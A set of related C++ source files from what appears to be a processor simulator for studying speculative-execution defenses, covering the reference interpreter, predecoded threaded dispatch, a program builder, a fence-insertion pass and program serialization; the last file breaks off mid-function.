 * ArchState (it is not architectural); both the fast loop and the
 * step() oracle count identically, which the lockstep test checks.
 */
struct WarmingWork {
    std::uint64_t iTouches = 0;  ///< i-cache accesses (line crossings)
    std::uint64_t dTouches = 0;  ///< d-cache accesses (ld/st/prefetch)
    std::uint64_t bpTrains = 0;  ///< branches trained into the predictor

    WarmingWork &
    operator+=(const WarmingWork &o)
    {
        iTouches += o.iTouches;
        dTouches += o.dTouches;
        bpTrains += o.bpTrains;
        return *this;
    }

    bool operator==(const WarmingWork &) const = default;
};

/**
 * Pure ALU semantics shared by the interpreter and the core exec unit.
 * `a` = rs1 value, `b` = rs2 value, `imm` = immediate.
 */
RegVal evalAlu(Opcode op, RegVal a, RegVal b, std::int64_t imm);

/** Direction of a conditional branch given its source values. */
bool evalCondBranch(Opcode op, RegVal a, RegVal b);

/**
 * Architectural next-PC of any instruction at `pc`, given source
 * values (for indirect branches, `a` = rs1 value).
 */
Addr evalNextPc(const MicroOp &uop, Addr pc, RegVal a, RegVal b);

/** Outcome of stepping the interpreter once. */
enum class StepResult : std::uint8_t {
    kOk,
    kHalted,
    kFaulted,      ///< fault raised and handled (or halted, if no handler)
    kOutOfRange,   ///< pc left the program (treated as halt)
};

/** Architectural-state interpreter (no timing). */
class Interpreter
{
  public:
    /** The interpreter keeps its own copy of `prog`. */
    explicit Interpreter(Program prog);

    /**
     * Execute one instruction through the switch-dispatched slow
     * path. This is the semantic oracle: `run()` must be bit-identical
     * to a step() loop, and the lockstep test enforces it.
     */
    StepResult step();

    /**
     * Run until halt/fault-without-handler or until `max_insts`
     * instructions have committed. Dispatches to a predecoded
     * threaded-code loop specialized at compile time on the three
     * attachment axes (cache warming, predictor warming, DIFT), so
     * the common fast-forward configurations execute with no per-step
     * attachment tests or pc re-validation.
     * @return number of instructions executed.
     */
    std::uint64_t run(std::uint64_t max_insts);

    /**
     * Run until the lifetime retirement count reaches
     * `target_inst_count` (a no-op if already there). This is the
     * chained fast-forward primitive: a restored interpreter extends
     * its run to an absolute offset, so checkpoint k+1 is built from
     * checkpoint k by executing exactly one stride more.
     * @return number of instructions executed by this call.
     */
    std::uint64_t runTo(std::uint64_t target_inst_count);

    bool halted() const { return st_.halted; }
    Addr pc() const { return st_.pc; }
    RegVal reg(RegId r) const { return st_.regs[r]; }
    void setReg(RegId r, RegVal v) { st_.regs[r] = v; }
    RegVal msr(unsigned i) const { return st_.msrs[i]; }
    std::uint64_t instCount() const { return st_.instCount; }
    std::uint64_t faultCount() const { return st_.faultCount; }

    MemoryMap &mem() { return st_.mem; }
    const MemoryMap &mem() const { return st_.mem; }

    /**
     * Pseudo-cycle counter returned by RDTSC in the interpreter: the
     * instruction count (architectural time has no cycles).
     */
    std::uint64_t tscValue() const { return st_.instCount; }

    /**
     * Attach the DIFT oracle (dift/taint_engine.hh): taint then
     * propagates architecturally with every step. The interpreter is
     * the reference propagation model the cores must agree with.
     */
    void attachDift(TaintEngine *engine) { dift_ = engine; }

    /**
     * Attach functional-warming targets (either may be null): every
     * retired instruction then touches the hierarchy (i-fetch on line
     * crossing, d-access per load/store/prefetch, flush per clflush)
     * and trains the predictor with its actual outcome, matching the
     * timing models' correct-path update rules. Warming only models
     * non-faulting accesses — wrong-path and faulting pollution is
     * what the detailed warm-up window after a restore is for.
     */
    void
    attachWarming(MemHierarchy *hier, PredictorUnit *bp)
    {
        warmHier_ = hier;
        warmBp_ = bp;
    }

    /** Direct access to the complete architectural state. */
    const ArchState &state() const { return st_; }

    /** Functional-warming work performed so far (lifetime totals). */
    const WarmingWork &warmingWork() const { return warmWork_; }

    /**
     * Save the complete state; if a DIFT engine is attached its
     * architectural taint is captured too, so a restored run resumes
     * taint propagation bit-exactly.
     */
    ArchState save() const;

    /** Restore a previously saved state (applies captured taint to an
     *  attached DIFT engine). */
    void restore(const ArchState &snap);

  private:
    /**
     * The threaded-code hot loop, stamped out once per attachment
     * configuration (interpreter.cc). Only defined when
     * NDASIM_THREADED_DISPATCH; run() falls back to a step() loop
     * otherwise.
     */
    template <bool WarmHier, bool WarmBp, bool HasDift>
    std::uint64_t runImpl(std::uint64_t max_insts);

    const Program prog_;
    const PredecodedProgram pre_;       ///< decode-once op stream
    ArchState st_;
    WarmingWork warmWork_;
    TaintEngine *dift_ = nullptr;
    MemHierarchy *warmHier_ = nullptr;  ///< functional cache warming
    PredictorUnit *warmBp_ = nullptr;   ///< functional predictor warming
};

/** Initialize a MemoryMap from a program's data segments. */
void loadDataSegments(const Program &prog, MemoryMap &mem);

} // namespace nda

#endif // NDASIM_ISA_INTERPRETER_HH
