/**
 * @file
 * Architectural reference interpreter and shared functional semantics.
 *
 * The interpreter defines the ISA's architectural behaviour and serves
 * as the oracle for differential testing: every core model (in-order,
 * OoO, any NDA/InvisiSpec configuration) must produce the same final
 * architectural state, since NDA only changes *timing*.
 */

#ifndef NDASIM_ISA_INTERPRETER_HH
#define NDASIM_ISA_INTERPRETER_HH

#include <cstdint>

#include "common/types.hh"
#include "isa/program.hh"
#include "mem/memory_map.hh"

namespace nda {

class TaintEngine;

/**
 * Pure ALU semantics shared by the interpreter and the core exec unit.
 * `a` = rs1 value, `b` = rs2 value, `imm` = immediate.
 */
RegVal evalAlu(Opcode op, RegVal a, RegVal b, std::int64_t imm);

/** Direction of a conditional branch given its source values. */
bool evalCondBranch(Opcode op, RegVal a, RegVal b);

/**
 * Architectural next-PC of any instruction at `pc`, given source
 * values (for indirect branches, `a` = rs1 value).
 */
Addr evalNextPc(const MicroOp &uop, Addr pc, RegVal a, RegVal b);

/** Outcome of stepping the interpreter once. */
enum class StepResult : std::uint8_t {
    kOk,
    kHalted,
    kFaulted,      ///< fault raised and handled (or halted, if no handler)
    kOutOfRange,   ///< pc left the program (treated as halt)
};

/** Architectural-state interpreter (no timing). */
class Interpreter
{
  public:
    /** The interpreter keeps its own copy of `prog`. */
    explicit Interpreter(Program prog);

    /** Execute one instruction. */
    StepResult step();

    /**
     * Run until halt/fault-without-handler or until `max_insts`
     * instructions have committed.
     * @return number of instructions executed.
     */
    std::uint64_t run(std::uint64_t max_insts);

    bool halted() const { return halted_; }
    Addr pc() const { return pc_; }
    RegVal reg(RegId r) const { return regs_[r]; }
    void setReg(RegId r, RegVal v) { regs_[r] = v; }
    RegVal msr(unsigned i) const { return msrs_[i]; }
    std::uint64_t instCount() const { return instCount_; }
    std::uint64_t faultCount() const { return faultCount_; }

    MemoryMap &mem() { return mem_; }
    const MemoryMap &mem() const { return mem_; }

    /**
     * Pseudo-cycle counter returned by RDTSC in the interpreter: the
     * instruction count (architectural time has no cycles).
     */
    std::uint64_t tscValue() const { return instCount_; }

    /**
     * Attach the DIFT oracle (dift/taint_engine.hh): taint then
     * propagates architecturally with every step. The interpreter is
     * the reference propagation model the cores must agree with.
     */
    void attachDift(TaintEngine *engine) { dift_ = engine; }

  private:
    const Program prog_;
    MemoryMap mem_;
    RegVal regs_[kNumArchRegs] = {};
    RegVal msrs_[kNumMsrRegs] = {};
    Addr pc_ = 0;
    bool halted_ = false;
    std::uint64_t instCount_ = 0;
    std::uint64_t faultCount_ = 0;
    TaintEngine *dift_ = nullptr;
};

/** Initialize a MemoryMap from a program's data segments. */
void loadDataSegments(const Program &prog, MemoryMap &mem);

} // namespace nda

#endif // NDASIM_ISA_INTERPRETER_HH
