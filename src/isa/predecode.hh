/**
 * @file
 * Predecoded program representation for the threaded-code interpreter.
 *
 * The legacy `Interpreter::step()` pays, per instruction: an
 * out-of-line `opTraits()` call, a `validPc` bounds check, an
 * immediate sign-cast, and (when warming) a divide to recover the
 * fetch line. Fast-forwarding a grid spends hundreds of millions of
 * steps in that loop, so `PredecodedProgram` flattens all of it once
 * at construction into a dense `PredecodedOp` stream the hot loop can
 * execute with one indirect branch per instruction:
 *
 *  - `handler` is the dispatch index into the run loop's computed-goto
 *    table (the opcode value; the one-past-the-end sentinel entry uses
 *    `kOutOfRangeHandler` so "pc left the program" is just another
 *    handler instead of a per-step bounds check);
 *  - `uimm` is the immediate pre-cast to the RegVal/Addr bit pattern
 *    every consumer actually wants (`static_cast<RegVal>(imm)`);
 *  - `fetchAddr`/`fetchLine` make i-cache warming one compare instead
 *    of an address computation plus divide;
 *  - `targetIdx` is the dispatch index of a direct branch's target,
 *    pre-clamped to the sentinel for out-of-program targets so taken
 *    branches never re-validate the pc.
 *
 * Decoding is pure: it never changes semantics, only representation.
 * `Interpreter::step()` remains the switch-dispatched oracle and the
 * lockstep test (tests/test_predecode.cc) holds the two bit-identical.
 */

#ifndef NDASIM_ISA_PREDECODE_HH
#define NDASIM_ISA_PREDECODE_HH

#include <cstdint>
#include <vector>

#include "common/types.hh"
#include "isa/opcode.hh"

// Threaded dispatch needs GNU "labels as values"; elsewhere the
// interpreter falls back to the (slower, semantically identical)
// step() loop.
#if defined(__GNUC__) || defined(__clang__)
#define NDASIM_THREADED_DISPATCH 1
#else
#define NDASIM_THREADED_DISPATCH 0
#endif

namespace nda {

struct Program;

/**
 * One predecoded instruction. Kept dense (40 bytes) so the fast loop
 * streams it from L1; everything a handler needs is in the op itself —
 * no `OpTraits` lookup, no immediate cast, no divide.
 */
struct PredecodedOp {
    /** Immediate as the RegVal/Addr bit pattern (pre-cast). */
    RegVal uimm = 0;
    /** Byte address of this instruction's fetch (pcToFetchAddr). */
    Addr fetchAddr = 0;
    /** fetchAddr / kLineSize, so i-warming is one compare. */
    Addr fetchLine = 0;
    /** Dispatch index of a direct branch's target, clamped to the
     *  sentinel when the target is outside the program. */
    std::uint32_t targetIdx = 0;
    /** Dispatch index: the opcode value, or kOutOfRangeHandler. */
    std::uint8_t handler = 0;
    RegId rd = 0;
    RegId rs1 = 0;
    RegId rs2 = 0;
    /** Memory access size in bytes (1/2/4/8). */
    std::uint8_t size = 8;
};

/** A Program decoded once into a PredecodedOp stream + sentinel. */
class PredecodedProgram
{
  public:
    /** Dispatch index of the one-past-the-end sentinel handler. */
    static constexpr std::uint8_t kOutOfRangeHandler =
        static_cast<std::uint8_t>(Opcode::kNumOpcodes);

    explicit PredecodedProgram(const Program &prog);

    /** The op stream; index `size()` is the out-of-range sentinel. */
    const PredecodedOp *ops() const { return ops_.data(); }

    /** Number of real instructions (excluding the sentinel). */
    std::size_t size() const { return size_; }

    bool hasFaultHandler() const { return hasFaultHandler_; }
    /** Architectural fault-handler pc (raw, may be out of range). */
    Addr faultPc() const { return faultPc_; }
    /** Dispatch index of the fault handler (clamped to sentinel). */
    std::uint32_t faultIdx() const { return faultIdx_; }

  private:
    std::vector<PredecodedOp> ops_;
    std::size_t size_ = 0;
    Addr faultPc_ = ~Addr{0};
    std::uint32_t faultIdx_ = 0;
    bool hasFaultHandler_ = false;
};

} // namespace nda

#endif // NDASIM_ISA_PREDECODE_HH
