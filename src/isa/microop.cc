#include "isa/microop.hh"

#include <cstdio>

namespace nda {

std::string
MicroOp::disasm() const
{
    const OpTraits &t = traits();
    char buf[96];
    if (t.isLoad) {
        std::snprintf(buf, sizeof(buf), "%s r%u, [r%u%+lld] (%u)",
                      t.mnemonic.data(), rd, rs1,
                      static_cast<long long>(imm), size);
    } else if (t.isStore) {
        std::snprintf(buf, sizeof(buf), "%s [r%u%+lld], r%u (%u)",
                      t.mnemonic.data(), rs1,
                      static_cast<long long>(imm), rs2, size);
    } else if (t.isBranch) {
        if (t.isIndirect) {
            if (t.hasDest) {
                std::snprintf(buf, sizeof(buf), "%s r%u, r%u",
                              t.mnemonic.data(), rd, rs1);
            } else {
                std::snprintf(buf, sizeof(buf), "%s r%u",
                              t.mnemonic.data(), rs1);
            }
        } else if (t.isCondBranch) {
            std::snprintf(buf, sizeof(buf), "%s r%u, r%u, %lld",
                          t.mnemonic.data(), rs1, rs2,
                          static_cast<long long>(imm));
        } else if (t.hasDest) {
            std::snprintf(buf, sizeof(buf), "%s r%u, %lld",
                          t.mnemonic.data(), rd,
                          static_cast<long long>(imm));
        } else {
            std::snprintf(buf, sizeof(buf), "%s %lld", t.mnemonic.data(),
                          static_cast<long long>(imm));
        }
    } else if (t.hasDest && t.readsRs1 && t.readsRs2) {
        std::snprintf(buf, sizeof(buf), "%s r%u, r%u, r%u",
                      t.mnemonic.data(), rd, rs1, rs2);
    } else if (t.hasDest && t.readsRs1) {
        std::snprintf(buf, sizeof(buf), "%s r%u, r%u, %lld",
                      t.mnemonic.data(), rd, rs1,
                      static_cast<long long>(imm));
    } else if (t.hasDest) {
        std::snprintf(buf, sizeof(buf), "%s r%u, %lld", t.mnemonic.data(),
                      rd, static_cast<long long>(imm));
    } else if (t.readsRs1) {
        std::snprintf(buf, sizeof(buf), "%s r%u, %lld", t.mnemonic.data(),
                      rs1, static_cast<long long>(imm));
    } else {
        std::snprintf(buf, sizeof(buf), "%s", t.mnemonic.data());
    }
    return buf;
}

} // namespace nda
