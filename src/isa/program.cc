#include "isa/program.hh"

#include "common/log.hh"

namespace nda {

ProgramBuilder::ProgramBuilder(std::string name)
{
    prog_.name = std::move(name);
}

ProgramBuilder::Label
ProgramBuilder::label()
{
    Label l = futureLabel();
    bind(l);
    return l;
}

ProgramBuilder::Label
ProgramBuilder::futureLabel()
{
    Label l;
    l.id = static_cast<int>(labelPcs_.size());
    labelPcs_.push_back(-1);
    return l;
}

void
ProgramBuilder::bind(Label l)
{
    NDA_ASSERT(l.valid() &&
               static_cast<std::size_t>(l.id) < labelPcs_.size(),
               "binding invalid label");
    NDA_ASSERT(labelPcs_[l.id] < 0, "label %d bound twice", l.id);
    labelPcs_[l.id] = static_cast<std::int64_t>(prog_.code.size());
}

ProgramBuilder &
ProgramBuilder::emit(const MicroOp &uop)
{
    prog_.code.push_back(uop);
    return *this;
}

ProgramBuilder &
ProgramBuilder::padToPc(Addr pc)
{
    NDA_ASSERT(pc >= prog_.code.size(),
               "padToPc(%llu) target already passed (at %zu)",
               static_cast<unsigned long long>(pc), prog_.code.size());
    MicroOp nop_op;
    nop_op.op = Opcode::kNop;
    prog_.code.resize(static_cast<std::size_t>(pc), nop_op);
    return *this;
}

namespace {

MicroOp
makeOp(Opcode op, RegId rd, RegId rs1, RegId rs2, std::int64_t imm,
       std::uint8_t size = 8)
{
    MicroOp u;
    u.op = op;
    u.rd = rd;
    u.rs1 = rs1;
    u.rs2 = rs2;
    u.imm = imm;
    u.size = size;
    return u;
}

} // namespace

ProgramBuilder &
ProgramBuilder::nop()
{
    return emit(makeOp(Opcode::kNop, 0, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::halt()
{
    return emit(makeOp(Opcode::kHalt, 0, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::movi(RegId rd, std::int64_t imm)
{
    return emit(makeOp(Opcode::kMovImm, rd, 0, 0, imm));
}

ProgramBuilder &
ProgramBuilder::mov(RegId rd, RegId rs1)
{
    return emit(makeOp(Opcode::kMov, rd, rs1, 0, 0));
}

#define NDA_DEF_ALU2(fn, opcode) \
    ProgramBuilder & \
    ProgramBuilder::fn(RegId rd, RegId rs1, RegId rs2) \
    { \
        return emit(makeOp(Opcode::opcode, rd, rs1, rs2, 0)); \
    }

NDA_DEF_ALU2(add, kAdd)
NDA_DEF_ALU2(sub, kSub)
NDA_DEF_ALU2(and_, kAnd)
NDA_DEF_ALU2(or_, kOr)
NDA_DEF_ALU2(xor_, kXor)
NDA_DEF_ALU2(shl, kShl)
NDA_DEF_ALU2(shr, kShr)
NDA_DEF_ALU2(mul, kMul)
NDA_DEF_ALU2(div, kDiv)
NDA_DEF_ALU2(cmpeq, kCmpEq)
NDA_DEF_ALU2(cmplt, kCmpLt)
NDA_DEF_ALU2(cmpltu, kCmpLtu)
#undef NDA_DEF_ALU2

#define NDA_DEF_ALUI(fn, opcode) \
    ProgramBuilder & \
    ProgramBuilder::fn(RegId rd, RegId rs1, std::int64_t imm) \
    { \
        return emit(makeOp(Opcode::opcode, rd, rs1, 0, imm)); \
    }

NDA_DEF_ALUI(addi, kAddImm)
NDA_DEF_ALUI(subi, kSubImm)
NDA_DEF_ALUI(andi, kAndImm)
NDA_DEF_ALUI(ori, kOrImm)
NDA_DEF_ALUI(xori, kXorImm)
NDA_DEF_ALUI(shli, kShlImm)
NDA_DEF_ALUI(shri, kShrImm)
NDA_DEF_ALUI(muli, kMulImm)
#undef NDA_DEF_ALUI

ProgramBuilder &
ProgramBuilder::load(RegId rd, RegId rs1, std::int64_t disp,
                     std::uint8_t size)
{
    return emit(makeOp(Opcode::kLoad, rd, rs1, 0, disp, size));
}

ProgramBuilder &
ProgramBuilder::store(RegId rs1, std::int64_t disp, RegId rs2,
                      std::uint8_t size)
{
    return emit(makeOp(Opcode::kStore, 0, rs1, rs2, disp, size));
}

ProgramBuilder &
ProgramBuilder::clflush(RegId rs1, std::int64_t disp)
{
    return emit(makeOp(Opcode::kClflush, 0, rs1, 0, disp));
}

ProgramBuilder &
ProgramBuilder::prefetch(RegId rs1, std::int64_t disp)
{
    return emit(makeOp(Opcode::kPrefetch, 0, rs1, 0, disp));
}

ProgramBuilder &
ProgramBuilder::rdmsr(RegId rd, unsigned msr)
{
    NDA_ASSERT(msr < kNumMsrRegs, "msr index %u out of range", msr);
    return emit(makeOp(Opcode::kRdMsr, rd, 0, 0,
                       static_cast<std::int64_t>(msr)));
}

ProgramBuilder &
ProgramBuilder::wrmsr(unsigned msr, RegId rs1)
{
    NDA_ASSERT(msr < kNumMsrRegs, "msr index %u out of range", msr);
    return emit(makeOp(Opcode::kWrMsr, 0, rs1, 0,
                       static_cast<std::int64_t>(msr)));
}

ProgramBuilder &
ProgramBuilder::rdtsc(RegId rd)
{
    return emit(makeOp(Opcode::kRdTsc, rd, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::fence()
{
    return emit(makeOp(Opcode::kFence, 0, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::specoff()
{
    return emit(makeOp(Opcode::kSpecOff, 0, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::specon()
{
    return emit(makeOp(Opcode::kSpecOn, 0, 0, 0, 0));
}

ProgramBuilder &
ProgramBuilder::emitBranch(Opcode op, RegId rd, RegId rs1, RegId rs2,
                           Label target)
{
    NDA_ASSERT(target.valid(), "branch to invalid label");
    fixups_[prog_.code.size()] = target.id;
    return emit(makeOp(op, rd, rs1, rs2, 0));
}

ProgramBuilder &
ProgramBuilder::jmp(Label target)
{
    return emitBranch(Opcode::kJmp, 0, 0, 0, target);
}

ProgramBuilder &
ProgramBuilder::call(RegId rd, Label target)
{
    return emitBranch(Opcode::kCall, rd, 0, 0, target);
}

#define NDA_DEF_CBR(fn, opcode) \
    ProgramBuilder & \
    ProgramBuilder::fn(RegId rs1, RegId rs2, Label target) \
    { \
        return emitBranch(Opcode::opcode, 0, rs1, rs2, target); \
    }

NDA_DEF_CBR(beq, kBeq)
NDA_DEF_CBR(bne, kBne)
NDA_DEF_CBR(blt, kBlt)
NDA_DEF_CBR(bge, kBge)
NDA_DEF_CBR(bltu, kBltu)
NDA_DEF_CBR(bgeu, kBgeu)
#undef NDA_DEF_CBR

ProgramBuilder &
ProgramBuilder::jmpr(RegId rs1)
{
    return emit(makeOp(Opcode::kJmpReg, 0, rs1, 0, 0));
}

ProgramBuilder &
ProgramBuilder::callr(RegId rd, RegId rs1)
{
    return emit(makeOp(Opcode::kCallReg, rd, rs1, 0, 0));
}

ProgramBuilder &
ProgramBuilder::ret(RegId rs1)
{
    return emit(makeOp(Opcode::kRet, 0, rs1, 0, 0));
}

ProgramBuilder &
ProgramBuilder::segment(Addr base, std::vector<std::uint8_t> bytes,
                        MemPerm perm)
{
    prog_.data.push_back({base, std::move(bytes), perm});
    return *this;
}

ProgramBuilder &
ProgramBuilder::zeroSegment(Addr base, std::size_t len, MemPerm perm)
{
    prog_.data.push_back({base, std::vector<std::uint8_t>(len, 0), perm});
    return *this;
}

ProgramBuilder &
ProgramBuilder::word(Addr base, std::uint64_t value, MemPerm perm)
{
    std::vector<std::uint8_t> bytes(8);
    for (int i = 0; i < 8; ++i)
        bytes[i] = static_cast<std::uint8_t>(value >> (8 * i));
    return segment(base, std::move(bytes), perm);
}

ProgramBuilder &
ProgramBuilder::initReg(RegId r, RegVal v)
{
    NDA_ASSERT(r < kNumArchRegs, "register %u out of range", r);
    prog_.initialRegs[r] = v;
    return *this;
}

ProgramBuilder &
ProgramBuilder::initMsr(unsigned msr, RegVal v, bool privileged)
{
    NDA_ASSERT(msr < kNumMsrRegs, "msr index %u out of range", msr);
    prog_.initialMsrs[msr] = v;
    if (privileged)
        prog_.privilegedMsrMask |= static_cast<std::uint8_t>(1u << msr);
    return *this;
}

ProgramBuilder &
ProgramBuilder::faultHandlerAt(Label l)
{
    NDA_ASSERT(l.valid(), "fault handler label invalid");
    pendingFaultHandler_ = l.id;
    return *this;
}

Program
ProgramBuilder::build()
{
    for (const auto &[pc, label_id] : fixups_) {
        NDA_ASSERT(labelPcs_[label_id] >= 0,
                   "label %d used at pc %zu but never bound",
                   label_id, pc);
        prog_.code[pc].imm = labelPcs_[label_id];
    }
    if (pendingFaultHandler_ >= 0) {
        NDA_ASSERT(labelPcs_[pendingFaultHandler_] >= 0,
                   "fault handler label never bound");
        prog_.faultHandler =
            static_cast<Addr>(labelPcs_[pendingFaultHandler_]);
    }
    NDA_ASSERT(!prog_.code.empty(), "empty program");
    return prog_;
}

} // namespace nda
