#include "isa/transform.hh"

#include <vector>

#include "common/log.hh"

namespace nda {

Program
insertFencesAfterBranches(const Program &prog, TransformStats *stats)
{
    // The pass relocates code, so data-embedded code pointers cannot
    // be fixed up. Returns are fine (their targets are runtime link
    // values created in the new layout), register-indirect
    // calls/jumps are not.
    for (const MicroOp &uop : prog.code) {
        NDA_ASSERT(uop.op != Opcode::kCallReg &&
                       uop.op != Opcode::kJmpReg,
                   "fence-insertion pass cannot relocate programs "
                   "with register-indirect calls/jumps");
    }

    // Which old PCs are conditional-branch targets?
    std::vector<bool> is_cond_target(prog.code.size(), false);
    for (const MicroOp &uop : prog.code) {
        if (uop.traits().isCondBranch)
            is_cond_target[static_cast<std::size_t>(uop.imm)] = true;
    }

    // First pass: compute each old instruction's entry point in the
    // new layout (including a fence inserted before cond targets).
    std::vector<Addr> new_start(prog.code.size() + 1);
    Addr pos = 0;
    for (std::size_t i = 0; i < prog.code.size(); ++i) {
        new_start[i] = pos;
        if (is_cond_target[i])
            ++pos;                    // fence at the taken target
        ++pos;                        // the instruction itself
        if (prog.code[i].traits().isCondBranch)
            ++pos;                    // fence on the fall-through
    }
    new_start[prog.code.size()] = pos;

    // Second pass: emit.
    Program out;
    out.name = prog.name + "+lfence";
    out.data = prog.data;
    for (int i = 0; i < kNumArchRegs; ++i)
        out.initialRegs[i] = prog.initialRegs[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        out.initialMsrs[i] = prog.initialMsrs[i];
    out.privilegedMsrMask = prog.privilegedMsrMask;
    out.entry = new_start[static_cast<std::size_t>(prog.entry)];
    if (prog.faultHandler != ~Addr{0}) {
        out.faultHandler =
            new_start[static_cast<std::size_t>(prog.faultHandler)];
    }

    MicroOp fence;
    fence.op = Opcode::kFence;
    TransformStats local;
    for (std::size_t i = 0; i < prog.code.size(); ++i) {
        if (is_cond_target[i]) {
            out.code.push_back(fence);
            ++local.fencesInserted;
        }
        MicroOp uop = prog.code[i];
        const OpTraits &t = uop.traits();
        if (t.isBranch && !t.isIndirect) {
            uop.imm = static_cast<std::int64_t>(
                new_start[static_cast<std::size_t>(uop.imm)]);
            ++local.branchesPatched;
        }
        out.code.push_back(uop);
        if (t.isCondBranch) {
            out.code.push_back(fence);
            ++local.fencesInserted;
        }
    }
    if (stats)
        *stats = local;
    return out;
}

} // namespace nda
