#include "isa/program_io.hh"

#include <algorithm>
#include <cctype>
#include <cstdint>
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
#include <unordered_map>

namespace nda {

namespace {

constexpr std::size_t kBytesPerRow = 32;

const char *
permName(MemPerm p)
{
    return p == MemPerm::kKernel ? "kernel" : "user";
}

/** mnemonic -> opcode, built once from the opcode table itself so the
 *  two can never drift apart. */
const std::unordered_map<std::string, Opcode> &
mnemonicTable()
{
    static const std::unordered_map<std::string, Opcode> table = [] {
        std::unordered_map<std::string, Opcode> t;
        for (int i = 0; i < static_cast<int>(Opcode::kNumOpcodes); ++i) {
            const auto op = static_cast<Opcode>(i);
            t.emplace(std::string(opName(op)), op);
        }
        return t;
    }();
    return table;
}

[[noreturn]] void
parseError(std::size_t line_no, const std::string &why)
{
    throw std::runtime_error("program parse error at line " +
                             std::to_string(line_no) + ": " + why);
}

/** Line reader that strips '#' comments and blank lines. */
class LineSource
{
  public:
    explicit LineSource(const std::string &text) : in_(text) {}

    /** Next meaningful line; false at end of input. */
    bool
    next(std::string &out)
    {
        std::string raw;
        while (std::getline(in_, raw)) {
            ++lineNo_;
            const auto hash = raw.find('#');
            if (hash != std::string::npos)
                raw.erase(hash);
            std::size_t b = 0, e = raw.size();
            while (b < e && std::isspace(static_cast<unsigned char>(raw[b])))
                ++b;
            while (e > b &&
                   std::isspace(static_cast<unsigned char>(raw[e - 1])))
                --e;
            if (e > b) {
                out = raw.substr(b, e - b);
                return true;
            }
        }
        return false;
    }

    std::size_t lineNo() const { return lineNo_; }

  private:
    std::istringstream in_;
    std::size_t lineNo_ = 0;
};

std::uint64_t
parseU64(const std::string &tok, std::size_t line_no)
{
    std::size_t consumed = 0;
    std::uint64_t v = 0;
    try {
        v = std::stoull(tok, &consumed, 0);
    } catch (const std::exception &) {
        consumed = 0;
    }
    if (tok.empty() || consumed != tok.size())
        parseError(line_no, "expected a number, got '" + tok + "'");
    return v;
}

std::int64_t
parseI64(const std::string &tok, std::size_t line_no)
{
    std::size_t consumed = 0;
    std::int64_t v = 0;
    try {
        v = std::stoll(tok, &consumed, 0);
    } catch (const std::exception &) {
        consumed = 0;
    }
    if (tok.empty() || consumed != tok.size())
        parseError(line_no, "expected an integer, got '" + tok + "'");
    return v;
}

int
hexNibble(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    if (c >= 'A' && c <= 'F')
        return c - 'A' + 10;
    return -1;
}

} // namespace

std::string
serializeProgram(const Program &prog)
{
    std::ostringstream out;
    out << "program " << (prog.name.empty() ? "unnamed" : prog.name)
        << "\n";
    out << "entry " << prog.entry << "\n";
    if (prog.faultHandler != ~Addr{0})
        out << "faulthandler " << prog.faultHandler << "\n";
    if (prog.privilegedMsrMask != 0)
        out << "msrmask "
            << static_cast<unsigned>(prog.privilegedMsrMask) << "\n";
    for (int r = 0; r < kNumArchRegs; ++r) {
        if (prog.initialRegs[r] != 0)
            out << "initreg " << r << " " << prog.initialRegs[r] << "\n";
    }
    for (int i = 0; i < kNumMsrRegs; ++i) {
        if (prog.initialMsrs[i] != 0)
            out << "initmsr " << i << " " << prog.initialMsrs[i] << "\n";
    }

    static const char *hex = "0123456789abcdef";
    for (const DataSegment &seg : prog.data) {
        out << "segment " << seg.base << " " << permName(seg.perm) << " "
            << seg.bytes.size() << "\n";
        for (std::size_t i = 0; i < seg.bytes.size();
             i += kBytesPerRow) {
            const std::size_t n =
                std::min(kBytesPerRow, seg.bytes.size() - i);
            std::string row;
            row.reserve(2 * n);
            for (std::size_t j = 0; j < n; ++j) {
                row.push_back(hex[seg.bytes[i + j] >> 4]);
                row.push_back(hex[seg.bytes[i + j] & 0xF]);
            }
            out << row << "\n";
        }
    }

    out << "code " << prog.code.size() << "\n";
    for (const MicroOp &uop : prog.code) {
        out << opName(uop.op) << " " << static_cast<unsigned>(uop.rd)
            << " " << static_cast<unsigned>(uop.rs1) << " "
            << static_cast<unsigned>(uop.rs2) << " " << uop.imm << " "
            << static_cast<unsigned>(uop.size) << "\n";
    }
    return out.str();
}

Program
parseProgram(const std::string &text)
{
    Program prog;
    LineSource src(text);
    std::string line;
    bool saw_code = false;

    while (src.next(line)) {
        std::istringstream fields(line);
        std::string key;
        fields >> key;
        const auto rest = [&fields, &src] {
            std::string tok;
            if (!(fields >> tok))
                parseError(src.lineNo(), "missing field");
            return tok;
        };

        if (key == "program") {
            prog.name = rest();
        } else if (key == "entry") {
            prog.entry = parseU64(rest(), src.lineNo());
        } else if (key == "faulthandler") {
            prog.faultHandler = parseU64(rest(), src.lineNo());
        } else if (key == "msrmask") {
            prog.privilegedMsrMask = static_cast<std::uint8_t>(
                parseU64(rest(), src.lineNo()));
        } else if (key == "initreg") {
            const std::uint64_t r = parseU64(rest(), src.lineNo());
            if (r >= kNumArchRegs)
                parseError(src.lineNo(), "register index out of range");
            prog.initialRegs[r] = parseU64(rest(), src.lineNo());
        } else if (key == "initmsr") {
            const std::uint64_t i = parseU64(rest(), src.lineNo());
            if (i >= kNumMsrRegs)
                parseError(src.lineNo(), "MSR index out of range");
            prog.initialMsrs[i] = parseU64(rest(), src.lineNo());
        } else if (key == "segment") {
            DataSegment seg;
            seg.base = parseU64(rest(), src.lineNo());
            const std::string perm = rest();
            if (perm == "kernel") {
                seg.perm = MemPerm::kKernel;
            } else if (perm == "user") {
                seg.perm = MemPerm::kUser;
            } else {
                parseError(src.lineNo(),
                           "bad segment permission '" + perm + "'");
            }
            const std::uint64_t nbytes = parseU64(rest(), src.lineNo());
            seg.bytes.reserve(nbytes);
            while (seg.bytes.size() < nbytes) {
                std::string row;
                if (!src.next(row))
                    parseError(src.lineNo(), "segment payload truncated");
                if (row.size() % 2 != 0)
                    parseError(src.lineNo(), "odd-length hex row");
                for (std::size_t i = 0; i < row.size(); i += 2) {
                    const int hi = hexNibble(row[i]);
                    const int lo = hexNibble(row[i + 1]);
                    if (hi < 0 || lo < 0)
                        parseError(src.lineNo(), "bad hex byte");
                    seg.bytes.push_back(
